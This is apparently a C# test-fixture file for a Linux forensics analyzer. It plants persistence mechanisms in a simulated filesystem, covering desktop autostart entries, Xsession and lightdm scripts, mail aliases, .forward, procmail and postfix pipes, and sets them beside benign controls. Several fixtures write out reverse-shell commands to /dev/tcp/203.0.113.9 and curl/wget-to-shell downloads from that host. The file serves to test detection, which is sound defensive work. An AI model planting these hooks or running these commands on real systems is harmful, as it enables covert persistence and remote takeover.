using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Graphical sessions and mail delivery.</summary>
internal static class SessionAndMailPlants
{
    private const string Payload = NetworkHookPlants.Payload;
    private const string Autostart = "/home/alice/.config/autostart/";

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. Sessions, .. Mail,
    ];

    private static string Entry(string exec, string more = "") => $"[Desktop Entry]\nType=Application\nName=User Dirs\nExec={exec}\n{more}X-GNOME-Autostart-enabled=true\n";

    private static Plant[] Sessions =>
    [
        new("L-XDG", "autostart-shell", Loud, tree => tree.File(Autostart + "sync.desktop", Entry("/bin/sh -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\""), user: 1000)),
        new("L-XDG", "plasma-environment-download", Loud, tree => tree.File("/home/alice/.config/plasma-workspace/env/gpg.sh", "export GPG_TTY=$(tty)\ncurl -s http://203.0.113.9/g | bash &\n", user: 1000)),
        new("L-XDG", "quiet-hidden-next-to-entry", Quiet, tree => tree.File(Autostart + "user-dirs.desktop", Entry("/home/alice/.config/autostart/.user-dirs"), user: 1000).Program("/home/alice/.config/autostart/.user-dirs")),
        new("L-XDG", "quiet-system-wide-script", Quiet, tree => tree.File("/etc/xdg/autostart/org.gnome.Sync.desktop", Entry("/usr/share/gnome-sync/start %u")).Script("/usr/share/gnome-sync/start", Payload)) { Entries = ["/etc/xdg/autostart/org.gnome.Sync.desktop"] },
        new("L-XDG", "quiet-xsession-script", Quiet, tree => tree.File("/etc/X11/Xsession.d/45x11-fonts", "# This file is sourced by Xsession(5), not executed.\n/usr/share/x11-fonts/refresh\n").Script("/usr/share/x11-fonts/refresh", Payload)) { Entries = ["/etc/X11/Xsession.d/45x11-fonts"] },
        new("L-XDG", "quiet-lightdm-setup", Quiet, tree => tree.File("/etc/lightdm/lightdm.conf", "[Seat:*]\nsession-setup-script=/usr/share/lightdm/setup-seat\n").Script("/usr/share/lightdm/setup-seat", Payload)) { Entries = ["/etc/lightdm/lightdm.conf"] },
        new("L-XDG", "quiet-window-manager", Quiet, tree => tree.File("/home/alice/.config/i3/config", "set $mod Mod4\nbindsym $mod+Return exec i3-sensible-terminal\nexec --no-startup-id /tmp/i3-bar\n", user: 1000).Program("/tmp/i3-bar")),
        new("L-XDG", "quiet-xprofile", Quiet, tree => tree.File("/home/alice/.xprofile", "export QT_QPA_PLATFORMTHEME=qt5ct\n/home/alice/.fonts.d/load &\n", user: 1000).Program("/home/alice/.fonts.d/load")),
        new("L-XDG", "hidden-entry", Dormant, tree => tree.File("/etc/xdg/autostart/org.gnome.Sync.desktop", Entry("/usr/share/gnome-sync/start %u", "Hidden=true\n")).Script("/usr/share/gnome-sync/start", Payload)) { TwinOf = "quiet-system-wide-script" },
        new("L-XDG", "switched-off-in-gnome", Dormant, tree => tree.File(Autostart + "sync.desktop", "[Desktop Entry]\nType=Application\nName=Sync\nExec=/bin/sh -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"\nX-GNOME-Autostart-enabled=false\n", user: 1000)) { TwinOf = "autostart-shell" },
        new("L-XDG", "desktop-programs", Benign, tree => tree.File(Autostart + "Nextcloud.desktop", "[Desktop Entry]\nName=Nextcloud\nGenericName=File Synchronizer\nExec=\"/usr/bin/nextcloud\" --background\nTerminal=false\nIcon=Nextcloud\nType=Application\nX-GNOME-Autostart-Delay=3\n", user: 1000).File(Autostart + "slack.desktop", "[Desktop Entry]\nType=Application\nName=Slack\nExec=/usr/bin/slack -u %U\n", user: 1000)
            .Owned("network-manager-gnome", "/etc/xdg/autostart/nm-applet.desktop", "[Desktop Entry]\nName=Network\nTryExec=nm-applet\nExec=nm-applet\nType=Application\nNotShowIn=KDE;GNOME;\n", config: true)
            .Owned("update-notifier", "/etc/xdg/autostart/update-notifier.desktop", "[Desktop Entry]\nName=Update Notifier\nExec=sh -c 'exec update-notifier'\nOnlyShowIn=GNOME;\nType=Application\n", config: true)),
        new("L-XDG", "own-scripts", Benign, tree => tree.File("/home/alice/.xinitrc", "#!/bin/sh\nuserresources=$HOME/.Xresources\n[ -f \"$userresources\" ] && xrdb -merge \"$userresources\"\nif [ -d /etc/X11/xinit/xinitrc.d ]; then\n for f in /etc/X11/xinit/xinitrc.d/?*.sh; do\n  [ -x \"$f\" ] && . \"$f\"\n done\nfi\nexec i3\n", user: 1000)
            .File("/home/alice/.config/i3/config", "exec --no-startup-id nm-applet\nexec_always feh --bg-scale ~/Pictures/wall.jpg\nexec --no-startup-id picom -b\n", user: 1000).File(Autostart + "xrandr.desktop", "[Desktop Entry]\nType=Application\nName=Screens\nExec=/home/alice/.screenlayout/home.sh\n", user: 1000).File("/home/alice/.screenlayout/home.sh", "#!/bin/sh\nxrandr --output HDMI-1 --mode 1920x1080\n", 0b111_101_101, 1000)),
    ];

    private static Plant[] Mail =>
    [
        new("L-MAIL", "alias-download", Loud, tree => tree.File("/etc/aliases", "postmaster: root\nsupport: \"|curl -s http://203.0.113.9/m | sh\"\n")),
        new("L-MAIL", "forward-shell", Loud, tree => tree.File("/home/alice/.forward", "\\alice, \"|/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/25 0>&1'\"\n", user: 1000)),
        new("L-MAIL", "procmail-shell", Loud, tree => tree.File("/home/alice/.procmailrc", "MAILDIR=$HOME/Mail\n:0c\n* ^Subject: order 7731\n| sh -c \"$(wget -qO- http://203.0.113.9/o)\"\n", user: 1000)),
        new("L-MAIL", "quiet-alias-temporary", Quiet, tree => tree.File("/etc/aliases", "postmaster: root\nabuse: root,\n \"|/var/tmp/.m/filter\"\n").Program("/var/tmp/.m/filter")),
        new("L-MAIL", "quiet-forward-script", Quiet, tree => tree.File("/home/alice/.forward", "\"|/usr/local/bin/mailsort\"\n", user: 1000).Script("/usr/local/bin/mailsort", Payload)) { Entries = ["/home/alice/.forward"] },
        new("L-MAIL", "quiet-procmail-script", Quiet, tree => tree.File("/home/alice/.procmailrc", ":0fw\n* < 256000\n| /usr/local/bin/mailsort\n", user: 1000).Script("/usr/local/bin/mailsort", Payload)) { Entries = ["/home/alice/.procmailrc"] },
        new("L-MAIL", "quiet-postfix-transport", Quiet, tree => tree.File("/etc/postfix/master.cf", "smtp      inet  n       -       y       -       -       smtpd\narchive   unix  -       n       n       -       -       pipe\n  flags=DRhu user=mail\n  argv=/usr/lib/postfix/archive ${recipient}\n").Script("/usr/lib/postfix/archive", Payload)) { Entries = ["/etc/postfix/master.cf"] },
        new("L-MAIL", "quiet-sieve-pipe", Quiet, tree => tree.File("/home/alice/.dovecot.sieve", "require [\"vnd.dovecot.pipe\"];\nif header :contains \"subject\" \"order\" {\n  pipe :copy \"/tmp/sorter\";\n}\n", user: 1000).Program("/tmp/sorter")),
        new("L-MAIL", "forward-anybody-may-write", Dormant, tree => tree.File("/home/alice/.forward", "\"|/usr/local/bin/mailsort\"\n", 0b110_110_110, 1000).Script("/usr/local/bin/mailsort", Payload)) { TwinOf = "quiet-forward-script" },
        new("L-MAIL", "mailing-lists", Benign, tree => tree.File("/etc/aliases", "mailer-daemon: postmaster\npostmaster: root\nroot: alice\nlist: \"|/usr/lib/mailman/mail/mailman post list\"\nlist-admin: \"|/usr/lib/mailman/mail/mailman admin list\"\nmajordomo: \"|/usr/lib/majordomo/wrapper majordomo\"\nnews: :include:/etc/mail/lists/news\n").OwnedProgram("mailman", "/usr/lib/mailman/mail/mailman")),
        new("L-MAIL", "vacation-and-spam-filter", Benign, tree => tree.File("/home/alice/.forward", "\\alice, \"|/usr/bin/vacation -a a.alice alice\"\n", user: 1000).File("/home/alice/.procmailrc", "MAILDIR=$HOME/Maildir/\nDEFAULT=$MAILDIR\nLOGFILE=$HOME/procmail.log\n:0fw: spamassassin.lock\n* < 256000\n| /usr/bin/spamc\n\n:0:\n* ^X-Spam-Status: Yes\nspam/\n", user: 1000)
            .Owned("postfix", "/etc/postfix/master.cf", "smtp      inet  n       -       y       -       -       smtpd\nmaildrop  unix  -       n       n       -       -       pipe\n  flags=DRXhu user=vmail argv=/usr/bin/maildrop -d ${recipient}\nuucp      unix  -       n       n       -       -       pipe\n  flags=Fqhu user=uucp argv=uux -r -n -z -a$sender - $nexthop!rmail ($recipient)\n", config: true)),
    ];
}
